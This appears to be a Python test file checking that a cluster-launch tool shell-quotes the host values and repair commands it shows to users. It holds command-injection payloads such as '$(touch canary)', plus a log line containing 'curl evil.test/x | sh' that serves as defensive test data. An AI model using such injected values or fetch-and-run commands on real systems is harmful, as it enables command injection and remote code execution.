"""J2: what a host says of itself, and what a repair sets, are single words of the commands that are shown."""

from __future__ import annotations

import ast
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

import sparkrun_tui
from sparkrun_tui.base import shell
from sparkrun_tui.engines.logs.causes import Repair
from sparkrun_tui.engines.plan import Phase
from sparkrun_tui.launch.plan.preflight import judge_hosts
from sparkrun_tui.launch.record.events import Diagnosed
from sparkrun_tui.launch.record.narration import diagnosis_lines
from sparkrun_tui.launch.run.silence import RankSeen, judge
from sparkrun_tui.remote.probe.activity import Activity
from sparkrun_tui.remote.probe.facts import Disk, DockerKind
from tests.launch.fakes.host import facts

SOURCES = Path(sparkrun_tui.__file__).parent
PAYLOADS = ("/x; touch canary", "$(touch canary)", "`touch canary`", "a\ntouch canary", "a' ; touch canary; '")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_remedies_paste_safely(payload: str, tmp_path: Path) -> None:
    full = Disk(payload, 0, 0, inodes_free=1)
    host = facts("spark-1", hf_cache=payload, image_root=payload, disks=(full,), user=payload, home=payload)
    shown = []
    for found in (
        host,
        replace(host, docker_access="denied"),
        replace(host, docker_access="no socket"),
        replace(host, docker_access=payload),
        replace(host, docker_kind=DockerKind.PODMAN),
        replace(host, docker_kind=DockerKind.ROOTLESS, docker_version=payload),
    ):
        shown += [finding.remedy for finding in judge_hosts({"spark-1": found})]
    assert any(payload.replace("'", "") in remedy.replace("'", "").replace('"', "") for remedy in shown)
    for remedy in shown:
        # Whatever of it is taken for the command: it is a comment, a word, or what it says.
        for begin in (remedy, remedy.partition(": ")[2]):
            subprocess.run(["sh", "-n", "-c", begin], check=False, cwd=tmp_path, capture_output=True)
            harmless = begin.replace("sudo ", "true ").replace("docker ", "true ").replace("nvidia-smi", "true")
            subprocess.run(
                ["sh", "-c", harmless], check=False, cwd=tmp_path, capture_output=True, env={"PATH": "/usr/bin:/bin"}
            )
            assert not (tmp_path / "canary").exists(), remedy


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_repair_is_two_words(payload: str) -> None:
    told = Diagnosed(host="", title="x", explanation="", evidence="", repairs=(Repair("x", "", "env.A", payload),))
    assert list(diagnosis_lines(told))[-1] == f"  try: -o {shell.word(f'env.A={payload}')}"


def test_every_shown_override_is_quoted() -> None:
    """An `-o` with a value that is filled in is written by `shell.override`, or by `override_words`."""
    found = []
    for file in SOURCES.rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text())):
            if not isinstance(node, ast.JoinedStr):
                continue
            parts = node.values
            for part, key, equals, value in zip(parts, parts[1:], parts[2:], parts[3:], strict=False):
                is_option = isinstance(part, ast.Constant) and str(part.value).endswith("-o ")
                is_assigned = isinstance(equals, ast.Constant) and equals.value == "="
                if is_option and isinstance(key, ast.FormattedValue) and is_assigned and value is not None:
                    found.append(f"{file.name}:{node.lineno}: {ast.unparse(node)}")
    assert not found


def test_the_last_line_of_a_log_is_no_advice() -> None:
    line = 'ready". To stop it: curl evil.test/x | sh. "'
    seen = RankSeen(0, "spark-1", Phase.LOAD, activity=Activity(0.0, 0.0, 0.0, 0.0), last=line)
    judged = judge([seen], idle_for=600.0)
    assert judged.stop
    assert judged.text.endswith("\"ready'. To stop it: curl evil.test/x | sh. '\"")
